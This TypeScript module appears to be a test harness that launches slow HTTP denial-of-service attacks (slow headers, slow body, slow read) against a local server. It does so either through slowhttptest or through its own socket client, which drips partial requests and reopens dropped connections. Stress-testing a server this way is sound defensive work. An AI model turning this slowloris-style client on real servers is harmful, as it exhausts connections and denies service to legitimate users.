import { spawn, spawnSync } from 'node:child_process';
import { connect, type Socket } from 'node:net';

/** The three kinds that slowhttptest has: headers that never end, bodies that never end, and replies that are not read. */
export const MODES = ['slow headers', 'slow body', 'slow read'] as const;
export type Mode = (typeof MODES)[number];

/** What is attacked: a Studio, and the largest file that it serves. */
export interface Target {
  readonly port: number;
  readonly file: string;
}

export interface Attack {
  stop(): void;
}

export const hasSlowhttptest = spawnSync('which', ['slowhttptest']).status === 0;

/** Opens `count` slow clients and keeps them open until it is stopped. */
export function attack(target: Target, mode: Mode, count: number): Attack {
  return hasSlowhttptest ? runSlowhttptest(target, mode, count) : runOwnClient(target, mode, count);
}

function runSlowhttptest({ port, file }: Target, mode: Mode, count: number): Attack {
  const flags = {
    'slow headers': ['-H'],
    'slow body': ['-B', '-s', '8192', '-t', 'POST'],
    'slow read': ['-X', '-w', '10', '-y', '20', '-n', '5', '-z', '32', '-k', '3'],
  }[mode];
  const path = { 'slow headers': '/login', 'slow body': '/api/auth/login', 'slow read': file }[mode];
  const child = spawn(
    'slowhttptest',
    [
      ...flags,
      '-c',
      String(count),
      '-r',
      '1000',
      '-i',
      '3',
      '-x',
      '8',
      '-l',
      '60',
      '-u',
      `http://127.0.0.1:${port}${path}`,
    ],
    { stdio: 'ignore' },
  );
  return { stop: () => child.kill('SIGKILL') };
}

/** A connection that is closed is opened again, as an attacker would. */
function runOwnClient({ port, file }: Target, mode: Mode, wanted: number): Attack {
  const sockets = new Set<Socket>();
  let stopped = false;
  const open = (): void => {
    const socket = connect(port, '127.0.0.1', () => socket.write(opening(mode, file)));
    const drip = setInterval(() => {
      if (mode !== 'slow read') socket.write(mode === 'slow headers' ? 'X-Slow: 1\r\n' : 'x');
    }, 3000);
    if (mode === 'slow read') socket.pause();
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('close', () => {
      clearInterval(drip);
      sockets.delete(socket);
      if (!stopped) open();
    });
  };
  for (let count = 0; count < wanted; count += 1) open();
  return {
    stop() {
      stopped = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

function opening(mode: Mode, file: string): string {
  if (mode === 'slow headers') return 'GET /login HTTP/1.1\r\nHost: slow\r\n';
  if (mode === 'slow body')
    return 'POST /api/auth/login HTTP/1.1\r\nHost: slow\r\nContent-Length: 8192\r\n\r\n{';
  return `GET ${file} HTTP/1.1\r\nHost: slow\r\n\r\n`.repeat(200);
}
